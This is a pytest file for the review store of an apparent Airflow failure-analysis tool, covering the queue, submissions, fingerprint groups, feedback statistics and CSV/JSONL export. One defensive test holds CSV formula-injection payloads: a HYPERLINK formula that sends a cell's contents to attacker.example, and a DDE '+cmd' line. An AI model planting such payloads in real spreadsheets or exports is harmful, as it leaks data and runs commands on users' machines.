"""The store side of the review UI, on SQLite and PostgreSQL: queue, submission, groups, statistics, export."""

from __future__ import annotations

import csv
import io
import json
import threading
from datetime import datetime, timedelta, timezone

import pytest
from sqlalchemy import func, select

from dagnostics_provider.analysis.outcome import AnalysisOutcome
from dagnostics_provider.analysis.schema import AnalysisResult, Category, Severity
from dagnostics_provider.store import reviews
from dagnostics_provider.store.engine import session_scope
from dagnostics_provider.store.failures import FailureRecord, record_failure, save_analysis
from dagnostics_provider.store.models import Analysis, Review, ReviewEvent
from dagnostics_provider.store.reviews import QueueFilters, QueueSort, ReviewRejected, ReviewStatus

T0 = datetime(2026, 11, 1, 12, 0, tzinfo=timezone.utc)
CONTEXT = "INFO - start\nTraceback (most recent call last):\nValueError: bad row 7\nINFO - done"


def add_failure(
    url: str,
    n: int,
    *,
    dag_id: str = "etl",
    category: str = "data_quality",
    severity: str = "medium",
    confidence: float = 0.5,
    fingerprint: str | None = None,
    failed_at: datetime | None = None,
    analyzer: str = "ollama",
    model: str | None = "m1",
    message: str = "ValueError: bad row 7",
    context: str = CONTEXT,
) -> int:
    """One failed try with one analysis; ``n`` makes the try unique (and, by default, its failure time)."""
    failed_at = failed_at or T0 + timedelta(hours=n)
    failure_id = record_failure(
        FailureRecord(dag_id=dag_id, task_id="load", run_id=f"run_{n}", try_number=1, end_date=failed_at), url
    )
    result = AnalysisResult(
        error_message=message,
        category=category,
        severity=severity,
        confidence=confidence,
        reasoning="A bad row.",
        error_lines=[message],
        suggested_actions=["Fix the row"],
    )
    save_analysis(
        failure_id,
        AnalysisOutcome(result=result, analyzer=analyzer, prompt_version="dagnostics-v1", model=model),
        log_excerpt=context,
        log_reference=None,
        fingerprint=fingerprint or f"{n:064x}",
        error_type="ValueError",
        url=url,
    )
    return failure_id


def correction(**changes) -> dict:
    values = {
        "error_message": "ValueError: bad row 7",
        "category": "data_quality",
        "severity": "medium",
        "confidence": 0.5,
        "reasoning": "A bad row.",
        "error_lines": ["ValueError: bad row 7"],
        "suggested_actions": ["Fix the row"],
    }
    values.update(changes)
    return values


def ids(page: reviews.QueuePage) -> list[int]:
    return [item.failed_task_id for item in page.items]


def test_queue_lists_each_failure_once_with_its_newest_analysis_newest_first(migrated_store_url):
    url = migrated_store_url
    first, second = add_failure(url, 1), add_failure(url, 2)
    # A re-analysis adds a row; the queue shows the newest one and the old one stays.
    save_analysis(
        first,
        AnalysisOutcome(
            result=AnalysisResult(
                error_message="KeyError: id", category="data_quality", severity="high", confidence=0.9
            ),
            analyzer="heuristic",
            prompt_version="dagnostics-v1",
        ),
        log_excerpt=CONTEXT,
        log_reference=None,
        fingerprint=f"{1:064x}",
        error_type="KeyError",
        url=url,
    )
    page = reviews.list_queue(url=url)
    assert ids(page) == [second, first] and page.total == 2
    newest = page.items[1]
    assert (newest.error_message, newest.analyzer, newest.severity) == ("KeyError: id", "heuristic", "high")
    assert newest.status is ReviewStatus.unreviewed
    with session_scope(url) as session:
        assert session.scalar(select(func.count()).select_from(Analysis)) == 3


def test_queue_filters_sorts_and_pages(migrated_store_url):
    url = migrated_store_url
    a = add_failure(url, 1, dag_id="orders", category="timeout_error", severity="high", confidence=0.2)
    b = add_failure(url, 2, dag_id="orders", category="data_quality", confidence=0.9)
    c = add_failure(url, 3, dag_id="billing", category="timeout_error", confidence=0.6, fingerprint="ab" * 32)
    d = add_failure(url, 4, dag_id="billing", category="unknown", severity="critical", confidence=0.2)

    def listed(**filters) -> list[int]:
        return ids(reviews.list_queue(QueueFilters(**filters), url=url))

    assert listed(dag_id="orders") == [b, a]
    assert listed(category=Category.timeout_error) == [c, a]
    assert listed(severity=Severity.critical) == [d]
    assert listed(min_confidence=0.5, max_confidence=0.95) == [c, b]
    assert listed(failed_since=T0 + timedelta(hours=2), failed_until=T0 + timedelta(hours=4)) == [c, b]
    assert listed(fingerprint="abab") == [c]  # a prefix, as the UI shows fingerprints shortened
    assert listed(fingerprint="ab" * 32) == [c]
    # Lowest confidence first; equal confidence: the newer analysis first.
    assert ids(reviews.list_queue(sort=QueueSort.confidence, url=url)) == [d, a, c, b]
    pages = [reviews.list_queue(page=n, per_page=3, url=url) for n in (1, 2)]
    assert [ids(p) for p in pages] == [[d, c, b], [a]]
    assert (pages[0].total, pages[0].pages) == (4, 2)


def test_submit_stores_review_and_event_and_never_touches_the_analysis(migrated_store_url):
    url = migrated_store_url
    failure = add_failure(url, 1)
    item = reviews.get_review_item(failure, url=url)
    submitted = reviews.submit_review(
        failure,
        reviewer="alice",
        rating=4,
        analysis_id=item.analysis["id"],
        correction=correction(category="configuration_error", error_message="ValueError: bad row 7 in orders.csv"),
        comment="  the file, not the data  ",
        url=url,
    )
    assert submitted.changed_fields == ("error_message", "category")
    assert not submitted.accepted_as_is
    with session_scope(url) as session:
        review = session.get(Review, submitted.review_id)
        (event,) = session.scalars(select(ReviewEvent)).all()
        analysis = session.get(Analysis, item.analysis["id"])
        assert (review.reviewer, review.rating, review.category, review.comment) == (
            "alice",
            4,
            Category.configuration_error,
            "the file, not the data",
        )
        assert (event.event, event.actor, event.review_id) == ("submitted", "alice", review.id)
        assert event.payload["changed_fields"] == ["error_message", "category"]
        assert (analysis.category, analysis.error_message) == (Category.data_quality, "ValueError: bad row 7")
    after = reviews.get_review_item(failure, url=url)
    assert after.status is ReviewStatus.corrected
    assert after.reviews[0].changed_fields == ["error_message", "category"]


def test_accept_as_is_and_an_unchanged_correction_are_both_accepted(migrated_store_url):
    url = migrated_store_url
    failure = add_failure(url, 1)
    accepted = reviews.submit_review(failure, reviewer="alice", rating=5, url=url)
    unchanged = reviews.submit_review(
        failure, reviewer="bob", rating=5, correction=correction(reasoning=" A bad row. "), url=url
    )
    assert accepted.accepted_as_is and unchanged.accepted_as_is
    with session_scope(url) as session:
        events = [e.event for e in session.scalars(select(ReviewEvent).order_by(ReviewEvent.id))]
    assert events == ["accepted", "submitted"]
    assert ids(reviews.list_queue(QueueFilters(status=ReviewStatus.accepted), url=url)) == [failure]


@pytest.mark.parametrize(
    ("changes", "rating", "message"),
    [
        ({"category": "cosmic_rays"}, 3, "category must be one of"),
        ({"error_message": "  "}, 3, "error_message"),
        ({"confidence": 1.5}, 3, "confidence"),
        ({"surprise": 1}, 3, "unknown field"),
        ({}, 0, "rating must be a whole number from 1 to 5"),
        ({}, "five", "rating must be a whole number from 1 to 5"),
        ({}, True, "rating must be a whole number from 1 to 5"),
    ],
)
def test_invalid_submissions_are_refused_and_store_nothing(migrated_store_url, changes, rating, message):
    url = migrated_store_url
    failure = add_failure(url, 1)
    with pytest.raises(ReviewRejected, match=message):
        reviews.submit_review(failure, reviewer="alice", rating=rating, correction=correction(**changes), url=url)
    with session_scope(url) as session:
        assert session.scalar(select(func.count()).select_from(Review)) == 0
        assert session.scalar(select(func.count()).select_from(ReviewEvent)) == 0


def test_the_analysis_must_belong_to_the_item(migrated_store_url):
    url = migrated_store_url
    one, other = add_failure(url, 1), add_failure(url, 2)
    other_analysis = reviews.get_review_item(other, url=url).analysis["id"]
    with pytest.raises(ReviewRejected, match="does not belong"):
        reviews.submit_review(one, reviewer="alice", rating=3, analysis_id=other_analysis, url=url)
    with pytest.raises(reviews.ItemNotFound):
        reviews.submit_review(999, reviewer="alice", rating=3, url=url)


def test_two_reviewers_submitting_at_once_both_keep_their_review(migrated_store_url):
    url = migrated_store_url
    failure = add_failure(url, 1)
    barrier = threading.Barrier(2)
    errors: list[BaseException] = []

    def review(name: str, category: str) -> None:
        try:
            barrier.wait(timeout=10)
            reviews.submit_review(failure, reviewer=name, rating=3, correction=correction(category=category), url=url)
        except BaseException as exc:  # surfaced below
            errors.append(exc)

    threads = [
        threading.Thread(target=review, args=("alice", "configuration_error")),
        threading.Thread(target=review, args=("bob", "resource_error")),
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=30)
    assert not errors
    item = reviews.get_review_item(failure, url=url)
    assert sorted((r.reviewer, r.values["category"]) for r in item.reviews) == [
        ("alice", "configuration_error"),
        ("bob", "resource_error"),
    ]
    assert reviews.list_queue(url=url).items[0].review_count == 2


def test_apply_to_the_fingerprint_group_reviews_every_other_open_item(migrated_store_url):
    url = migrated_store_url
    group = "cd" * 32
    source = add_failure(url, 1, fingerprint=group)
    open_member = add_failure(url, 2, fingerprint=group, context="ValueError: bad row 7\nsomething else")
    quoting_elsewhere = add_failure(url, 3, fingerprint=group, context="ValueError: bad row 9")
    already_reviewed = add_failure(url, 4, fingerprint=group)
    outsider = add_failure(url, 5)
    reviews.submit_review(already_reviewed, reviewer="bob", rating=2, url=url)
    assert reviews.get_review_item(source, url=url).group_open_others == 2

    submitted = reviews.submit_review(
        source,
        reviewer="alice",
        rating=4,
        correction=correction(category="configuration_error"),
        apply_to_group=True,
        url=url,
    )
    assert len(submitted.applied_review_ids) == 2
    applied = {r.failed_task_id: r for r in _reviews(url) if r.id in submitted.applied_review_ids}
    assert set(applied) == {open_member, quoting_elsewhere}
    assert all(r.reviewer == "alice" and r.category is Category.configuration_error for r in applied.values())
    # Error lines carry over only where that item's log context contains them.
    assert applied[open_member].error_lines == ["ValueError: bad row 7"]
    assert applied[quoting_elsewhere].error_lines == []
    member = reviews.get_review_item(open_member, url=url)
    assert member.reviews[0].source_review_id == submitted.review_id
    assert member.group_open_others == 0
    with session_scope(url) as session:
        events = session.scalars(select(ReviewEvent).where(ReviewEvent.event == "applied_from_group")).all()
    assert {e.failed_task_id for e in events} == {open_member, quoting_elsewhere}
    assert all(e.payload["source_review_id"] == submitted.review_id for e in events)
    assert [len(reviews.get_review_item(i, url=url).reviews) for i in (already_reviewed, outsider)] == [1, 0]


def _reviews(url: str) -> list[Review]:
    with session_scope(url) as session:
        return session.scalars(select(Review).order_by(Review.id)).all()


def test_status_filters_follow_the_newest_review(migrated_store_url):
    url = migrated_store_url
    corrected_then_accepted, accepted_then_corrected, untouched = (add_failure(url, n) for n in (1, 2, 3))
    reviews.submit_review(
        corrected_then_accepted, reviewer="a", rating=2, correction=correction(severity="high"), url=url
    )
    reviews.submit_review(corrected_then_accepted, reviewer="b", rating=5, url=url)
    reviews.submit_review(accepted_then_corrected, reviewer="a", rating=5, url=url)
    reviews.submit_review(
        accepted_then_corrected, reviewer="b", rating=2, correction=correction(severity="low"), url=url
    )

    def with_status(status: ReviewStatus) -> list[int]:
        return sorted(ids(reviews.list_queue(QueueFilters(status=status), url=url)))

    assert with_status(ReviewStatus.unreviewed) == [untouched]
    assert with_status(ReviewStatus.reviewed) == [corrected_then_accepted, accepted_then_corrected]
    assert with_status(ReviewStatus.accepted) == [corrected_then_accepted]
    assert with_status(ReviewStatus.corrected) == [accepted_then_corrected]


def test_neighbours_and_next_unreviewed_follow_the_queue_order(migrated_store_url):
    url = migrated_store_url
    a, b, c, d = (add_failure(url, n, confidence=conf) for n, conf in ((1, 0.9), (2, 0.1), (3, 0.5), (4, 0.3)))
    reviews.submit_review(b, reviewer="alice", rating=3, url=url)
    # Newest first: d c b a.
    assert reviews.neighbours(c, url=url) == reviews.Neighbours(previous_id=d, next_id=b, next_unreviewed_id=a)
    # The item just reviewed still has neighbours, and "next unreviewed" wraps around to the top.
    assert reviews.neighbours(a, url=url) == reviews.Neighbours(previous_id=b, next_id=None, next_unreviewed_id=d)
    # Lowest confidence first: b d c a.
    by_confidence = reviews.neighbours(d, sort=QueueSort.confidence, url=url)
    assert by_confidence == reviews.Neighbours(previous_id=b, next_id=c, next_unreviewed_id=c)
    assert reviews.next_unreviewed(url=url) == d
    assert reviews.next_unreviewed(QueueFilters(min_confidence=0.6), url=url) == a
    assert reviews.next_unreviewed(QueueFilters(dag_id="none"), url=url) is None


def test_fingerprint_groups_count_items_and_open_items(migrated_store_url):
    url = migrated_store_url
    big, small = "aa" * 32, "bb" * 32
    members = [add_failure(url, n, fingerprint=big) for n in (1, 2, 3)]
    add_failure(url, 4, fingerprint=small, message="KeyError: x")
    reviews.submit_review(members[0], reviewer="alice", rating=3, url=url)
    page = reviews.list_fingerprint_groups(url=url)
    assert page.total == 2
    assert [(g.fingerprint, g.count, g.open_count) for g in page.groups] == [(big, 3, 2), (small, 1, 1)]
    assert page.groups[0].newest_failed_task_id == members[-1]
    assert page.groups[1].error_message == "KeyError: x"
    only_open = reviews.list_fingerprint_groups(QueueFilters(status=ReviewStatus.unreviewed), url=url)
    assert [(g.count, g.open_count) for g in only_open.groups] == [(2, 2), (1, 1)]


def test_feedback_stats(migrated_store_url):
    url = migrated_store_url
    now = datetime(2026, 11, 30, 12, 0, tzinfo=timezone.utc)
    failures = [add_failure(url, n, model="m1" if n < 3 else "m2") for n in range(4)]
    add_failure(url, 9)  # never reviewed
    rows = [
        (failures[0], "a", 5, None, now - timedelta(days=1)),
        (failures[1], "a", 2, correction(category="timeout_error", severity="high"), now - timedelta(days=2)),
        (failures[2], "b", 4, correction(error_message="  valueerror: BAD ROW 7 "), now - timedelta(days=10)),
        (failures[3], "b", 1, correction(error_message="OSError: disk"), now - timedelta(days=40)),
    ]
    for failure, reviewer, rating, values, when in rows:
        review_id = reviews.submit_review(
            failure, reviewer=reviewer, rating=rating, correction=values, url=url
        ).review_id
        _backdate(url, review_id, when)
    stats = reviews.feedback_stats(now=now, url=url)
    assert stats["total_feedback_count"] == 4
    assert stats["avg_user_rating"] == 3.0
    assert stats["recent_feedback_count"] == 2
    assert stats["category_distribution"] == {"data_quality": 3, "timeout_error": 1}
    assert stats["suggested_category_distribution"] == {"data_quality": 4}
    assert stats["rating_histogram"] == {"1": 1, "2": 1, "3": 0, "4": 1, "5": 1}
    assert (stats["failed_tasks"], stats["analysed_items"], stats["reviewed_items"]) == (5, 5, 4)
    assert stats["reviewed_share"] == 0.8
    assert (stats["accepted_count"], stats["corrected_count"]) == (1, 3)
    per_day = stats["feedback_per_day"]
    assert len(per_day) == 30 and per_day[-1] == {"date": "2026-11-30", "count": 0}
    assert {d["date"]: d["count"] for d in per_day if d["count"]} == {"2026-11-29": 1, "2026-11-28": 1, "2026-11-20": 1}
    by_model = {row["model"]: row for row in stats["agreement_by_model"]}
    # m1: accepted; category and severity changed; message changed only in case and spaces (kept).
    assert by_model["m1"]["reviews"] == 3
    assert by_model["m1"]["agreement"] == {"category": 0.6667, "severity": 0.6667, "error_message": 1.0}
    assert by_model["m2"]["agreement"] == {"category": 1.0, "severity": 1.0, "error_message": 0.0}
    windowed = reviews.feedback_stats(since=now - timedelta(days=7), now=now, url=url)
    assert windowed["total_feedback_count"] == 2 and windowed["reviewed_items"] == 4


def _backdate(url: str, review_id: int, when: datetime) -> None:
    """Reviews are immutable through the ORM; a test moves one back in time with plain SQL."""
    from sqlalchemy import update

    with session_scope(url) as session:
        session.execute(update(Review.__table__).where(Review.__table__.c.id == review_id).values(created_at=when))


def test_export_filters_and_formats(migrated_store_url):
    url = migrated_store_url
    now = datetime.now(timezone.utc)
    one, two, three = (add_failure(url, n) for n in (1, 2, 3))
    low = reviews.submit_review(one, reviewer="a", rating=2, correction=correction(severity="low"), url=url)
    good = reviews.submit_review(two, reviewer="a", rating=4, correction=correction(category="unknown"), url=url)
    accepted = reviews.submit_review(three, reviewer="b", rating=5, url=url)
    newer = reviews.submit_review(two, reviewer="b", rating=3, url=url)

    def exported(**kwargs) -> list[int]:
        return [row["review_id"] for row in reviews.iter_feedback(batch_size=2, url=url, **kwargs)]

    assert exported() == [good.review_id, accepted.review_id, newer.review_id]  # default: rating >= 3
    assert exported(min_rating=1) == [low.review_id, good.review_id, accepted.review_id, newer.review_id]
    assert exported(status="accepted") == [accepted.review_id, newer.review_id]
    assert exported(status="corrected") == [good.review_id]
    assert exported(latest_per_item=True) == [accepted.review_id, newer.review_id]
    assert exported(since=now + timedelta(hours=1)) == []
    assert exported(until=now - timedelta(hours=1)) == []
    assert reviews.count_feedback(url=url) == 3
    with pytest.raises(ValueError, match="status must be one of"):
        reviews.count_feedback(status="maybe", url=url)

    row = next(r for r in reviews.iter_feedback(url=url) if r["review_id"] == good.review_id)
    assert row["log_context"] == CONTEXT
    assert row["ai"]["category"] == "data_quality" and row["correction"]["category"] == "unknown"
    assert (row["ai"]["analyzer"], row["ai"]["model"], row["changed_fields"]) == ("ollama", "m1", ["category"])
    lines = list(reviews.to_jsonl(reviews.iter_feedback(url=url)))
    assert [json.loads(line)["review_id"] for line in lines] == exported()
    parsed = list(csv.DictReader(io.StringIO("".join(reviews.to_csv(reviews.iter_feedback(url=url))))))
    assert list(parsed[0]) == list(reviews.CSV_COLUMNS)
    assert parsed[0]["correction_category"] == "unknown" and json.loads(parsed[0]["ai_error_lines"]) == [
        "ValueError: bad row 7"
    ]
    assert parsed[0]["log_context"] == CONTEXT  # multi-line cells survive CSV quoting
    assert "".join(reviews.to_csv([])).strip() == ",".join(reviews.CSV_COLUMNS)


def test_csv_export_neutralises_formulas_and_jsonl_stays_verbatim(migrated_store_url):
    """Log text and reviewers' text reach spreadsheets: a cell starting with = + - @ tab or CR must not run."""
    url = migrated_store_url
    failure = add_failure(url, 1)
    evil = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    reviews.submit_review(
        failure,
        reviewer="a",
        rating=4,
        correction=correction(error_message=evil, reasoning="+cmd|' /C calc'!A0", suggested_actions=["@SUM(1+1)"]),
        comment="-2+3",
        url=url,
    )
    row = next(csv.DictReader(io.StringIO("".join(reviews.to_csv(reviews.iter_feedback(url=url))))))
    assert row["correction_error_message"] == "'" + evil
    assert row["correction_reasoning"] == "'+cmd|' /C calc'!A0"
    assert row["comment"] == "'-2+3"
    assert json.loads(row["correction_suggested_actions"]) == ["@SUM(1+1)"]  # a JSON list starts with "["
    assert row["rating"] == "4"  # numbers are numbers, not text
    exported = json.loads(next(reviews.to_jsonl(reviews.iter_feedback(url=url))))
    assert exported["correction"]["error_message"] == evil and exported["comment"] == "-2+3"


def test_a_heuristic_analysis_is_credited_to_no_model(migrated_store_url):
    """Older fallbacks recorded the model that failed; the queue, stats and export must not credit it."""
    url = migrated_store_url
    fallback = add_failure(url, 1, analyzer="heuristic", model="llama3.2:3b")
    answered = add_failure(url, 2, analyzer="ollama", model="llama3.2:3b")
    for failure_id in (fallback, answered):
        reviews.submit_review(failure_id, reviewer="a", rating=4, url=url)

    queue = {item.failed_task_id: item for item in reviews.list_queue(QueueFilters(), url=url).items}
    assert (queue[fallback].analyzer, queue[fallback].model) == ("heuristic", None)
    assert queue[answered].model == "llama3.2:3b"
    assert reviews.get_review_item(fallback, url=url).analysis["model"] is None
    exported = {row["failed_task_id"]: row["ai"] for row in reviews.iter_feedback(url=url)}
    assert exported[fallback]["model"] is None and exported[answered]["model"] == "llama3.2:3b"
    by_model = {
        (m["analyzer"], m["model"]): m["reviews"] for m in reviews.feedback_stats(url=url)["agreement_by_model"]
    }
    assert by_model == {("heuristic", None): 1, ("ollama", "llama3.2:3b"): 1}
